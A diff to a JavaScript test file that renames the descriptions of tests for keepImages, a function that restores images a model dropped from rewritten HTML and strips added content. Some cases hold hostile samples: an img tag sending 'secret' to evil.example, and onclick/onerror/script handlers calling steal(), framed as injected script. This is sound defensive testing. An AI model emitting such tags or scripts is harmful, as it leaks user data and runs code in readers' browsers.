@@ -7,33 +7,33 @@ const video = '<p><a href="https://www.youtube.com/watch?v=abcdefghijk" data-vid
 test.each([
   ["keeps what the model kept, with other words", image("a"), image("a", "A hill"), image("a", "A hill")],
   [
-    "puts back what it left out, where it stood",
+    "restores a missing image at its old position",
     `<p>1</p>${image("a")}<p>2</p>`,
     "<p>one</p><p>two</p>",
     `<p>one</p>${image("a")}<p>two</p>`,
   ],
   [
-    "puts back several in their order",
+    "restores several images in order",
     `${image("a")}<p>1</p>${image("b")}`,
     "<p>one</p>",
     `${image("a")}<p>one</p>${image("b")}`,
   ],
   ["puts back all of a passage that became nothing", `<p>1</p>${image("a")}`, "", image("a")],
   [
-    "puts back an image out of a table",
+    "restores an image of a table",
     `<table><tbody><tr><td>${image("a")}</td></tr></tbody></table>`,
     "<p>one</p>",
     `${image("a")}<p>one</p>`,
   ],
   ["puts back a video", `<p>1</p>${video}`, "<p>one</p>", `<p>one</p>${video}`],
   [
-    "takes out what it made up",
+    "removes invented images",
     `<p>1</p>${image("a")}`,
     `<p>one</p>${image("b")}${image("a")}`,
     `<p>one</p>${image("a")}`,
   ],
   [
-    "takes out what would call another host",
+    "removes images of other hosts",
     "<p>1</p>",
     '<p>one <img src="https://evil.example/?q=secret" alt=""></p>',
     "<p>one </p>",
@@ -43,7 +43,7 @@ test.each([
   expect(keepImages(before, after)).toBe(kept);
 });
 
-test("takes out a script that a passage talked the model into", () => {
+test("removes a script that the passage made the model write", () => {
   const answer = '<p onclick="steal()">one</p><img src="x" onerror="steal()"><script>steal()</script>';
   expect(keepImages(image("a"), answer)).not.toMatch(/steal|script|onerror/);
 });
